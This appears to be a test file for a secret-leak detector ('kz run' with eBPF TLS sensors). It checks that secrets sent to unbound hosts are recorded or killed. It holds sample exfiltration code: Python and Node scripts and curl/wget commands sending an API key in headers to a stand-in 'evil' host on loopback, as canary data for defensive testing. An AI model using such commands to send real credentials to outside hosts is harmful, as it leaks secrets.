"""The eBPF sensors of `kz run` with --sensors=full (process tree + the TLS tap's uprobes
on every write of the run: the independent kernel witness), end to end with real clients
and a real TLS server on loopback. The default witnesses (the shim in process, uprobes
for the processes it does not serve) are in test_sensor_witness.py.

* standard mode: a child that writes a secret's real value over TLS to a host the secret
  is not bound to is recorded as a "leak" with host, peer and exact lineage (python's
  ssl with SSL_set_fd, curl with its own BIO, wget with GnuTLS); the bound host is a use;
* --on-leak=kill: the leaking process is stopped before the library encrypts the write
  and killed, so neither that request nor a second one reaches the server;
* blind mode: the sensor records a token sent to an unbound host ("exfil") with the same
  facts as the shim's refusal, and sees the swapped value going to the bound host;
* --no-sensors turns them off; the value never appears in the audit log.

Needs the sensors (root, BTF, a kz built with eBPF): skipped with `SKIP:` when
`kz doctor` reports the TLS tap unavailable.
"""
import os
import shutil
import subprocess
import sys
import unittest

sys.path.insert(0, os.path.dirname(__file__))
from kzt import KZ, PY, SRC, BlindTestCase, NodeServer  # noqa: E402

CANARY = "kzCANARY-sensor-5e1d0c9b8a7f6e5d4c3b2a1"

# Two requests carrying the value in a header, to argv[1] and argv[2].
LEAKER = r'''
import os, ssl, sys, urllib.request
ctx = ssl.create_default_context(cafile=sys.argv[3])
for url in sys.argv[1:3]:
    req = urllib.request.Request(url, headers={"X-Api-Key": os.environ["API_KEY"]})
    with urllib.request.urlopen(req, context=ctx, timeout=20) as r:
        print(url, r.status, flush=True)
'''

# node's http2 (nghttp2's HPACK encoder): the value in two requests' headers on one
# connection, Huffman-coded in the first (x-api-key enters the dynamic table), only a
# one-byte table index in the second. No body carries it. The server name it sends is
# evil.test (node's own TLS gives the tap no socket peer; the name is the destination).
H2_LEAKER = r'''
import http2 from 'node:http2';
const s = http2.connect(process.argv[2], { servername: 'evil.test', checkServerIdentity: () => undefined });
s.on('error', (e) => { console.error(e.message); process.exit(1); });
function get(headers) {
  return new Promise((resolve, reject) => {
    const r = s.request({ ':path': '/v1/h2-leak', ...headers });
    r.on('error', reject);
    r.on('end', resolve);
    r.resume();
    r.end();
  });
}
await get({ 'x-api-key': process.env.API_KEY, authorization: `Bearer ${process.env.API_KEY}` });
await get({ 'x-api-key': process.env.API_KEY });
s.close();
console.log('sent 2');
'''


def tap_unavailable():
    """None when `kz doctor` reports the TLS tap active, else why not."""
    try:
        r = subprocess.run([KZ, "doctor"], capture_output=True, text=True, timeout=60)
    except OSError as e:
        return "cannot run kz doctor: %s" % e
    for line in r.stdout.splitlines():
        if line.startswith("sensor: TLS tap"):
            state = line[len("sensor: TLS tap"):].strip()
            return None if state.startswith("active") else state
    return "kz doctor has no 'sensor: TLS tap' line"


WHY = tap_unavailable()
if WHY:
    print("SKIP: TLS tap %s" % WHY)


class SensorCase(BlindTestCase):
    """A TLS echo server, API_KEY bound to localhost (the same server as 127.0.0.1 is
    "another host"), and `kz run` in standard mode with SENSORS."""
    SENSORS = ()

    def setUp(self):
        super().setUp()
        self.port, self.rec = self.echo_server("tls")
        # Bound to localhost; the same server as 127.0.0.1 is "another host".
        self.blind_config({"API_KEY": {"ref": "KZT_SRC", "hosts": ["localhost"]}})
        self.kenv = self.env(KZT_SRC=CANARY)
        self.good = "https://localhost:%d" % self.port
        self.evil = "https://127.0.0.1:%d" % self.port
        self.peer = "127.0.0.1:%d" % self.port

    def run_std(self, *cmd, flags=()):
        args = ["run", "--audit-log", self.audit_path, *self.SENSORS, *flags, "--", *cmd]
        return self.kz(*args, env=self.kenv, timeout=120)

    def diag(self, r):
        return "kz exit %d\nstdout:\n%s\nstderr:\n%s\naudit:\n%s" % (
            r.returncode, r.stdout[-3000:], r.stderr[-3000:], self.audit_dump())

    def assertNoCanaryInAudit(self):
        with open(self.audit_path) as f:
            self.assertNoSecret(f.read(), CANARY, "audit log")


class KillKeepsBoundTraffic:
    """Mixed into each witness's suite: --on-leak=kill must not touch a bound host's writes."""

    def test_on_leak_kill_lets_bound_traffic_through(self):
        script = self.write("leaker.py", LEAKER)
        r = self.run_std(PY, script, self.good + "/v1/ok-1", self.good + "/v1/ok-2", self.ca["ca"],
                         flags=["--on-leak=kill"])
        self.assertEqual(r.returncode, 0, self.diag(r))
        self.assertEqual(len(self.records(self.rec, "/v1/ok-")), 2)
        self.assertFalse(self.audit_events("leak"), self.diag(r))


@unittest.skipIf(WHY, "TLS tap %s" % WHY)
class SensorTest(KillKeepsBoundTraffic, SensorCase):
    SENSORS = ("--sensors=full",)

    def test_standard_leak_is_recorded_with_host_peer_and_lineage(self):
        script = self.write("leaker.py", LEAKER)
        cmd = ('curl -sS --fail --max-time 20 --http1.1 --cacert "%s" -H "Authorization: Bearer $API_KEY" '
               '%s/v1/bound >/dev/null & %s %s %s/v1/leak-a %s/v1/leak-b "%s"; wait'
               % (self.ca["ca"], self.good, PY, script, self.evil, self.evil, self.ca["ca"]))
        r = self.run_std("/bin/bash", "-c", cmd)
        self.assertEqual(r.returncode, 0, self.diag(r))
        # Audit mode observes: the requests went through.
        self.assertEqual(len(self.records(self.rec, "/v1/leak-")), 2, self.diag(r))
        leaks = self.assertAudited("leak", secret="API_KEY")
        self.assertEqual(len(leaks), 2, self.diag(r))
        for leak in leaks:
            self.assertEqual(leak.get("decision"), "audit")
            self.assertEqual(leak.get("host"), "127.0.0.1")
            self.assertEqual(leak.get("peer"), self.peer)
            self.assertEqual(leak.get("function"), "SSL_write_ex")
            self.assertEqual(leak.get("via"), "tls-tap")
            lin = leak.get("lineage") or []
            self.assertEqual(len(lin), 2, leak)
            self.assertEqual(lin[0], "bash")
            self.assertTrue(lin[1].startswith("python3"), lin)
        # The bound host is a use, not a leak.
        summary = self.assertAudited("sensor.summary")[0]
        self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "value", "writes": 1},
                      summary.get("uses"), summary)
        self.assertEqual(summary.get("leaks"), 2)
        self.assertNoCanaryInAudit()

    def test_http2_header_values_are_recognised(self):
        # HPACK: the raw bytes hold the value Huffman-coded, then only an index; the tap
        # decodes each header block with the connection's table and sees it both times.
        if not shutil.which("node"):
            self.skipTest("node is not installed")
        record = os.path.join(self.srv, "h2.jsonl")
        server = NodeServer([os.path.join(SRC, "tests", "servers", "h2_record_server.mjs"), "--cert",
                             self.ca["server"], "--key", self.ca["server_key"], "--record", record])
        self.addCleanup(server.stop)
        script = self.write("h2_leaker.mjs", H2_LEAKER)
        self.kenv["NODE_EXTRA_CA_CERTS"] = self.ca["ca"]
        r = self.run_std("node", script, "https://127.0.0.1:%d" % server.port)
        self.assertEqual(r.returncode, 0, self.diag(r))
        self.assertEqual(len(self.records(record)), 2, self.diag(r))
        leaks = self.assertAudited("leak", secret="API_KEY")
        # One write per request (preface and settings go with the first).
        self.assertEqual(len(leaks), 2, self.diag(r))
        for leak in leaks:
            self.assertEqual(leak.get("host"), "evil.test")
            self.assertEqual(leak.get("via"), "tls-tap")
        summary = self.assertAudited("sensor.summary")[0]
        self.assertEqual(summary.get("leaks"), 2)
        self.assertNoCanaryInAudit()

    def test_curl_and_wget_leaks_have_their_peer(self):
        # curl feeds OpenSSL through its own BIO (no SSL_set_fd): the peer comes from the
        # handshake's first send. wget speaks GnuTLS.
        cmd = ('curl -sS --fail --max-time 20 --http1.1 --cacert "%s" -H "X-Key: $API_KEY" %s/v1/curl >/dev/null; '
               'wget -q -O /dev/null --ca-certificate="%s" --header="X-Key: $API_KEY" %s/v1/wget; true'
               % (self.ca["ca"], self.evil, self.ca["ca"], self.evil))
        r = self.run_std("/bin/bash", "-c", cmd)
        self.assertEqual(r.returncode, 0, self.diag(r))
        leaks = self.assertAudited("leak", secret="API_KEY")
        by_fn = {l.get("function"): l for l in leaks}
        self.assertEqual(set(by_fn), {"SSL_write", "gnutls_record_send"}, self.diag(r))
        self.assertEqual(by_fn["SSL_write"].get("lineage"), ["bash", "curl"])
        self.assertEqual(by_fn["gnutls_record_send"].get("lineage"), ["bash", "wget"])
        for l in leaks:
            self.assertEqual(l.get("host"), "127.0.0.1", l)
            self.assertEqual(l.get("peer"), self.peer, l)
        self.assertNoCanaryInAudit()

    def test_on_leak_kill_stops_the_process_before_the_value_leaves(self):
        script = self.write("leaker.py", LEAKER)
        r = self.run_std(PY, script, self.evil + "/v1/kill-first", self.evil + "/v1/kill-second", self.ca["ca"],
                         flags=["--on-leak=kill"])
        self.assertEqual(r.returncode, 128 + 9, self.diag(r))
        # Stopped in SSL_write_ex, before encryption: not even the first request arrived.
        self.assertEqual(self.records(self.rec, "/v1/kill-"), [], self.diag(r))
        leak = self.assertAudited("leak", secret="API_KEY", decision="kill")
        self.assertEqual(len(leak), 1, self.diag(r))
        self.assertIn("killed", leak[0].get("reason", ""))
        self.assertNoCanaryInAudit()

    def test_blind_exfil_is_recorded_with_the_same_facts_as_the_refusal(self):
        cmd = ('curl -sS --max-time 20 --http1.1 --cacert "%s" -H "Authorization: Bearer $API_KEY" %s/v1/exfil '
               '>/dev/null; curl -sS --fail --max-time 20 --http1.1 --cacert "%s" -H "Authorization: Bearer $API_KEY" '
               '%s/v1/use >/dev/null' % (self.ca["ca"], self.evil, self.ca["ca"], self.good))
        r = self.run_blind("/bin/bash", "-c", cmd, env=self.kenv, flags=["--sensors=full"])
        self.assertEqual(r.returncode, 0, self.diag(r))
        refused = self.assertAudited("swap", decision="refuse", secret="API_KEY")
        seen = self.assertAudited("exfil", secret="API_KEY")
        self.assertEqual(len(refused), 1, self.diag(r))
        self.assertEqual(len(seen), 1, self.diag(r))
        for k in ("secret", "host", "peer", "pid", "exe", "lineage"):
            self.assertEqual(seen[0].get(k), refused[0].get(k), "%s differs:\n%s" % (k, self.diag(r)))
        self.assertEqual(seen[0].get("lineage"), ["bash", "curl"])
        # The shim swapped before the library saw the bytes: the tap saw the value go to
        # its bound host, and no leak.
        summary = self.assertAudited("sensor.summary")[0]
        self.assertIn({"secret": "API_KEY", "host": "localhost", "form": "value", "writes": 1},
                      summary.get("uses"), summary)
        self.assertFalse(self.audit_events("leak"), self.diag(r))
        self.assertNoCanaryInAudit()
        # The summary counts it among the refusals.
        s = self.kz("audit", "summary", self.audit_path)
        self.assertIn("exfiltration attempts seen by the TLS tap: 1", s.stdout, s.stdout + s.stderr)

    def test_no_sensors(self):
        script = self.write("leaker.py", LEAKER)
        r = self.run_std(PY, script, self.evil + "/v1/n-1", self.evil + "/v1/n-2", self.ca["ca"],
                         flags=["--no-sensors"])
        self.assertEqual(r.returncode, 0, self.diag(r))
        self.assertFalse(self.audit_events("leak"))
        self.assertFalse(self.audit_events("sensor.summary"))
        r = self.kz("run", "--no-sensors", "--on-leak=kill", "--", "true", env=self.kenv)
        self.assertNotEqual(r.returncode, 0)
        self.assertIn("--on-leak=kill needs the sensors", r.stderr)


if __name__ == "__main__":
    unittest.main()
